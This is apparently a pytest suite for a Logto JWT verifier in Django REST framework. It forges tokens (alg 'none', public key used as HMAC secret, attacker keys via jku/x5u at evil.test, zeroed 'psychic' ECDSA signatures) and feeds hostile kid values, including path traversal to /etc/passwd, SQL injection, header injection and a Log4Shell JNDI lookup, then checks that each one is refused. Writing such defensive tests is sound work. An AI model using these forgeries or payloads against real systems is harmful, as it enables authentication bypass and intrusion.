"""Attacks on JWT verifiers, each under its own name; none of these tokens gets in."""

import base64
import hmac
import json
from hashlib import sha256
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from jwt import PyJWK

from drf_logto import exceptions as refusals
from drf_logto.testing import ABSENT
from drf_logto.testing.signing import SigningKeyPair
from tests.test_verifier import Desk, parts, segment

P384_ORDER = int(
    "FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFF"
    "C7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973",
    16,
)


@pytest.fixture(params=["ES384", "RS256"])
def desk(request: pytest.FixtureRequest) -> Desk:
    """A verifier that knows one key, of each type in turn."""
    desk = Desk()
    desk.logto.rotate(request.param)
    desk.published = {"keys": desk.logto.jwks["keys"][:1]}
    desk.verify(desk.global_token())
    return desk


def jwk_of(desk: Desk) -> dict[str, Any]:
    jwk: dict[str, Any] = desk.logto.jwks["keys"][0]
    return jwk


def claims_of(desk: Desk) -> str:
    return parts(desk.global_token())[1]


def forged(desk: Desk, header: dict[str, Any], signature: bytes = b"signature") -> str:
    named = {"typ": "at+jwt", "kid": jwk_of(desk)["kid"], **header}
    return f"{segment(json.dumps(named))}.{claims_of(desk)}.{segment(signature)}"


def refusal_of(desk: Desk, token: str) -> str:
    loads = desk.loads
    with pytest.raises(refusals.InvalidToken) as refused:
        desk.verify(token)
    assert desk.loads <= loads + 1
    return refused.value.code


@pytest.mark.parametrize("none", ["none", "None", "NONE", "nOnE", "none ", "", "null"])
def test_algorithm_none_in_every_spelling(desk: Desk, none: str) -> None:
    assert refusal_of(desk, forged(desk, {"alg": none})) == "unsupported_algorithm"
    stripped = forged(desk, {"alg": none}).rpartition(".")[0] + "."
    assert refusal_of(desk, stripped) == "malformed_token"


def test_hmac_with_the_public_key_as_secret(desk: Desk) -> None:
    key = PyJWK(jwk_of(desk), "RS256" if jwk_of(desk)["kty"] == "RSA" else "ES384").key
    info = serialization.PublicFormat.SubjectPublicKeyInfo
    secrets = [
        key.public_bytes(serialization.Encoding.PEM, info),
        key.public_bytes(serialization.Encoding.DER, info),
        json.dumps(jwk_of(desk)).encode(),
    ]
    for secret in secrets:
        unsigned = forged(desk, {"alg": "HS256"}).rpartition(".")[0]
        signature = hmac.digest(secret, unsigned.encode(), sha256)
        token = f"{unsigned}.{segment(signature)}"
        assert refusal_of(desk, token) == "unsupported_algorithm"


def test_another_algorithm_under_the_kid_of_a_key(desk: Desk) -> None:
    other = "ES384" if jwk_of(desk)["kty"] == "RSA" else "RS256"
    assert refusal_of(desk, forged(desk, {"alg": other})) == "algorithm_mismatch"


def test_a_key_of_the_attacker_under_a_kid_of_the_issuer(desk: Desk) -> None:
    attacker = SigningKeyPair.generate("ES384")
    token = attacker.sign(
        {"alg": "ES384", "typ": "at+jwt", "kid": jwk_of(desk)["kid"]},
        {"iss": desk.logto.issuer},
    )
    assert refusal_of(desk, token) in {"invalid_signature", "algorithm_mismatch"}


@pytest.mark.parametrize("parameter", ["jwk", "jku", "x5u", "x5c", "x5t"])
def test_a_key_that_comes_with_the_token_is_not_read(desk: Desk, parameter: str) -> None:
    attacker = SigningKeyPair.generate("ES384")
    values: dict[str, Any] = {
        "jwk": attacker.jwk,
        "jku": "https://evil.test/jwks",
        "x5u": "https://evil.test/cert",
        "x5c": ["MIIB"],
        "x5t": "AAAA",
    }
    header = {"alg": "ES384", "typ": "at+jwt", parameter: values[parameter]}
    claims = {"iss": desk.logto.issuer}
    for kid in (attacker.jwk["kid"], jwk_of(desk)["kid"]):
        token = attacker.sign({**header, "kid": kid}, claims)
        assert refusal_of(desk, token) in {
            "unknown_key",
            "invalid_signature",
            "algorithm_mismatch",
        }


@pytest.mark.parametrize(
    "header", [{"crit": ["b64"], "b64": False}, {"crit": ["exp"]}, {"crit": []}]
)
def test_an_extension_that_must_be_understood(desk: Desk, header: dict[str, Any]) -> None:
    token = desk.logto.global_token(headers=header)
    assert refusal_of(desk, token) == "critical_header"


def test_an_unencoded_payload(desk: Desk) -> None:
    header, payload, signature = parts(desk.global_token())
    plain = base64.urlsafe_b64decode(payload + "==").decode()
    assert refusal_of(desk, f"{header}.{plain}.{signature}") == "malformed_token"


def test_a_compressed_payload_is_not_unpacked(desk: Desk) -> None:
    header, _payload, signature = parts(desk.logto.global_token(headers={"zip": "DEF"}))
    bomb = segment(b"\x78\x9c" + b"\x00" * 1000)
    assert refusal_of(desk, f"{header}.{bomb}.{signature}") == "malformed_token"


def test_nested_and_encrypted_tokens(desk: Desk) -> None:
    inner = desk.global_token()
    header, _payload, signature = parts(inner)
    assert refusal_of(desk, f"{header}.{segment(inner)}.{signature}") == "malformed_token"
    encrypted = segment('{"alg":"RSA-OAEP","enc":"A256GCM","typ":"at+jwt"}')
    assert refusal_of(desk, f"{encrypted}.a.b.c.d") == "malformed_token"


def test_a_psychic_signature(desk: Desk) -> None:
    algorithm = "ES384" if jwk_of(desk)["kty"] == "EC" else "RS256"
    order = P384_ORDER.to_bytes(48)
    for signature in (b"\0" * 96, b"\0" * 256, order + order, b"\0" * 47 + b"\1" + order):
        token = forged(desk, {"alg": algorithm}, signature)
        assert refusal_of(desk, token) == "invalid_signature"


def test_a_signature_in_another_form(desk: Desk) -> None:
    """DER instead of the two numbers, cut short, or with octets behind it."""
    unsigned, _, encoded = desk.global_token().rpartition(".")
    signature = base64.urlsafe_b64decode(encoded + "==")
    for other in (signature[:-1], signature + b"\0", b"\0" + signature, b"\x30\x64" + signature):
        assert refusal_of(desk, f"{unsigned}.{segment(other)}") == "invalid_signature"


def test_the_other_signature_of_the_same_token_gives_the_same_facts() -> None:
    """ECDSA has two for each message; so a token's own bytes must not stand for its identity."""
    desk = Desk()
    unsigned, _, encoded = desk.global_token().rpartition(".")
    signature = base64.urlsafe_b64decode(encoded + "==")
    s = P384_ORDER - int.from_bytes(signature[48:])
    twin = f"{unsigned}.{segment(signature[:48] + s.to_bytes(48))}"
    assert desk.verify(twin) == desk.verify(f"{unsigned}.{encoded}")


def test_a_signature_that_was_left_out(desk: Desk) -> None:
    unsigned = desk.global_token().rpartition(".")[0]
    for token in (unsigned, f"{unsigned}."):
        assert refusal_of(desk, token) == "malformed_token"


@pytest.mark.parametrize("spelling", ["=", "==", " ", "\n", "\t", "\0", "%", "+", "/"])
def test_one_token_has_one_spelling(desk: Desk, spelling: str) -> None:
    token = desk.global_token()
    for other in (token + spelling, spelling + token, token.replace(".", f"{spelling}.", 1)):
        assert refusal_of(desk, other) == "malformed_token"


@pytest.mark.parametrize(
    "kid",
    [
        "../../etc/passwd",
        "/dev/null",
        "' OR '1'='1",
        "key\r\nSet-Cookie: a=b",
        "${jndi:ldap://evil.test}",
        "\u0000",
        "k" * 10_000,
        "constructor",
        "",
    ],
)
def test_a_kid_is_a_name_and_nothing_else(desk: Desk, kid: str) -> None:
    assert refusal_of(desk, desk.logto.global_token(headers={"kid": kid})) == "unknown_key"


def test_a_kid_of_the_issuer_in_another_case(desk: Desk) -> None:
    kid = jwk_of(desk)["kid"].swapcase()
    assert refusal_of(desk, desk.logto.global_token(headers={"kid": kid})) == "unknown_key"


@pytest.mark.parametrize("typ", ["logout+jwt", "JWT", "jwt", "dpop+jwt", ABSENT])
def test_a_signed_token_of_another_purpose(desk: Desk, typ: object) -> None:
    token = desk.logto.global_token(headers={"typ": typ})
    assert refusal_of(desk, token) == "not_an_access_token"


@pytest.mark.parametrize(
    "issuer",
    [
        "https://tenant.logto.test/oidc/",
        "https://tenant.logto.test/oidc?",
        "https://tenant.logto.test/OIDC",
        "https://tenant.logto.test./oidc",
        "https://tenant.logto.test:443/oidc",
        "https://tenant.logto.test.evil.test/oidc",
        "https://evil.test/https://tenant.logto.test/oidc",
        "https://tenant.logto.test@evil.test/oidc",
        "https://ten\u0430nt.logto.test/oidc",
        "http://tenant.logto.test/oidc",
        " https://tenant.logto.test/oidc",
    ],
)
def test_an_issuer_that_looks_alike(desk: Desk, issuer: str) -> None:
    assert refusal_of(desk, desk.global_token(iss=issuer)) == "invalid_issuer"


@pytest.mark.parametrize("scope", ["read:a\twrite:a", "read:a,write:a", "read:a\nwrite:a"])
def test_a_scope_that_smuggles_another(desk: Desk, scope: str) -> None:
    assert "write:a" not in desk.verify(desk.global_token(scope=scope)).scopes
